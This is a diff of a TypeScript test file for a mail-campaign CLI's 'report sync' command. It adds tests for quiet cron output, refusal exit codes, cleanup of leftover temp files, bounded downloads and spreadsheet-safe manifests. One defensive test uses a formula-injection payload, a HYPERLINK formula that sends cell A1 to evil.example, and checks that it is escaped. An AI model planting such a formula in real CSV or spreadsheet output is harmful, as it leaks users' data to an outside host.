@@ -1,7 +1,8 @@
 // `mailctl report sync` (issue 11): a crontab line keeps a directory complete with the six detail
 // files of every finished campaign. First run exports and downloads everything; a re-run with
-// nothing new sends no export; the manifest and --json rows describe the files truly; a failed
-// campaign is listed with exit 5 and finished by the next run.
+// nothing new sends no export; the manifest and --json rows describe the files truly (and are
+// spreadsheet-safe); a failed campaign is listed with exit 5 and finished by the next run, all
+// refused is exit 1; quiet without a terminal; leftovers of a killed run are cleared; downloads bounded.
 import fs from 'node:fs';
 import path from 'node:path';
 import { parse } from 'csv-parse/sync';
@@ -10,6 +11,7 @@ import { runCli, tempDir } from './helpers/cli.js';
 import { useSandbox } from './helpers/sandbox.js';
 import { TYPES, finishedCampaigns, folderOf, sandboxLinks, sha256, syncTraffic } from './helpers/report-sync.js';
 import { systemClock } from '../src/cli/clock.js';
+import { DOWNLOADS_AT_ONCE } from '../src/report/sync/sync.js';
 
 const sb = useSandbox();
 const DAY = 86_400_000;
@@ -110,7 +112,17 @@ describe('report sync: first run, then a re-run with nothing new', () => {
     expect(t.exports).toEqual([]); // exported less than an hour ago: the service would ignore it
     expect(t.downloads.map((d) => d.path)).toEqual([new URL(sandboxLinks(sb.get, sns[1]).open).pathname.replace(/^\/files/, '')]);
     expect(fs.readFileSync(file, 'utf8')).toBe(good);
-    expect(r.stdout.trim()).toBe(file);
+    // Quiet under cron even when something arrived: nothing on stdout, one line on stderr.
+    expect(r.stdout).toBe('');
+    expect(r.stderr.trim().split('\n')).toEqual([expect.stringContaining('1 campaign downloaded (1 file')]);
+  });
+
+  it('-v lists each file downloaded in this run on stdout', async () => {
+    const file = path.join(folderOf(sb.get, dir, sns[2]), 'click.csv');
+    fs.appendFileSync(file, 'x');
+    const r = await sync(['--out', dir, '-v']);
+    expect(r.exitCode, r.stderr).toBe(0);
+    expect(r.stdout).toBe(`${file}\n`);
   });
 
   it('--refresh-days re-exports recent campaigns, but never one exported less than an hour ago (said on stderr)', async () => {
@@ -133,11 +145,13 @@ describe('report sync: first run, then a re-run with nothing new', () => {
 });
 
 describe('report sync: on a terminal', () => {
-  it('shows a progress display on stderr, then the summary', async () => {
-    const r = await sync(['--out', tempDir('mailctl-sync-tty-')], { tty: true });
+  it('shows a progress display on stderr, then the summary; each file downloaded on stdout', async () => {
+    const out = tempDir('mailctl-sync-tty-');
+    const r = await sync(['--out', out], { tty: true });
     expect(r.exitCode, r.stderr).toBe(0);
     expect(r.stderr).toContain('Listing the campaigns finished');
     expect(r.stderr).toContain('3 campaigns downloaded (18 files');
+    expect(r.stdout.trim().split('\n').sort()).toEqual(sns.flatMap((sn) => TYPES.map((t) => path.join(folderOf(sb.get, out, sn), `${t}.csv`))).sort());
   });
 });
 
@@ -180,6 +194,19 @@ describe('report sync: failures', () => {
     expect(syncTraffic(sb.get, again).exports).toEqual([]);
   });
 
+  it('every campaign refused by the service: exit 1, each listed', async () => {
+    const out = tempDir('mailctl-sync-refused-');
+    sb.get().sandbox.injectFault({ kind: 'status', status: 403, times: 100, body: { code: '40303', message: 'bad operation with invalid user state' }, match: { method: 'POST', path: /\/export$/ } });
+    const r = await sync(['--out', out, '--json']);
+    sb.get().sandbox.faults.splice(0);
+    expect(r.exitCode).toBe(1);
+    const json = JSON.parse(r.stdout);
+    expect(json.campaigns.failed.map((f: { sn: string }) => f.sn).sort()).toEqual([...sns].sort());
+    expect(json.campaigns.failed.every((f: { code: string }) => f.code === 'REFUSED')).toBe(true);
+    expect(json.error).toMatchObject({ code: 'REFUSED', exitCode: 1 });
+    expect(r.stderr).toContain('3 failed');
+  });
+
   it('every campaign unreachable: exit 4 (network), nothing half-written', async () => {
     const out = tempDir('mailctl-sync-net-');
     sb.get().sandbox.injectFault({ kind: 'drop', times: 100, match: { method: 'POST', path: /\/export$/ } });
@@ -203,5 +230,50 @@ describe('report sync: failures', () => {
     fs.writeFileSync(file, '');
     expect((await sync(['--out', file])).stderr).toContain('is a file, not a directory');
     expect(sb.get().sandbox.requests().length).toBe(m);
+  });
+});
+
+// Last: the formula-named campaign added here would change the counts above.
+describe('report sync: the directory', () => {
+  it('removes the temporary files a run killed while writing its state or manifest left, and nothing else', async () => {
+    const out = tempDir('mailctl-sync-left-');
+    const left = ['..mailctl-sync.json.0123456789ab.part', '.manifest.csv.abcdef012345.part', '.mailctl-sync.lock.00112233aabb.stale'];
+    const mine = ['.notes.txt.0123456789ab.part', 'manifest.csv.0123456789ab.part', 'keep.part'];
+    for (const f of [...left, ...mine]) fs.writeFileSync(path.join(out, f), 'x');
+    const r = await sync(['--out', out]);
+    expect(r.exitCode, r.stderr).toBe(0);
+    const now = fs.readdirSync(out);
+    for (const f of left) expect(now).not.toContain(f);
+    for (const f of mine) expect(now).toContain(f);
+  });
+
+  it('manifest cells are spreadsheet-safe: a campaign named like a formula is written as text', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")';
+    const [sn] = await finishedCampaigns(sb.get, 1, 3, [evil]);
+    const out = tempDir('mailctl-sync-csv-');
+    const r = await sync(['--out', out, '--json']);
+    expect(r.exitCode, r.stderr).toBe(0);
+    const rows = parse(fs.readFileSync(path.join(out, 'manifest.csv'), 'utf8'), { columns: true }) as Array<Record<string, string>>;
+    const mine = rows.filter((x) => x.campaign_code === sn);
+    expect(mine).toHaveLength(6);
+    for (const row of mine) expect(row.campaign_name).toBe(`'${evil}`);
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // --json is data for programs: the name as the service gave it.
+    expect(JSON.parse(r.stdout).files.find((f: { campaignCode: string }) => f.campaignCode === sn).campaignName).toBe(evil);
+  });
+
+  it(`downloads at most ${DOWNLOADS_AT_ONCE} files at once`, async () => {
+    const out = tempDir('mailctl-sync-bound-');
+    const m = sb.get().sandbox.requests().length;
+    // The first four downloads get no answer until the client's stall guard (1 s) gives up on them.
+    sb.get().sandbox.injectFault({ kind: 'hang', times: DOWNLOADS_AT_ONCE, match: { service: 'files', method: 'GET' } });
+    await sync(['--out', out], { tuning: { timeoutMs: 1000 } });
+    sb.get().sandbox.faults.splice(0);
+    const downloads = syncTraffic(sb.get, m).downloads;
+    const hung = downloads.slice(0, DOWNLOADS_AT_ONCE);
+    expect(hung.map((d) => d.status)).toEqual(Array(DOWNLOADS_AT_ONCE).fill(-1));
+    // No other download started while those four were in flight.
+    expect(downloads.length).toBeGreaterThan(DOWNLOADS_AT_ONCE);
+    expect(downloads[DOWNLOADS_AT_ONCE].at - Math.max(...hung.map((d) => d.at))).toBeGreaterThanOrEqual(900);
   });
 });
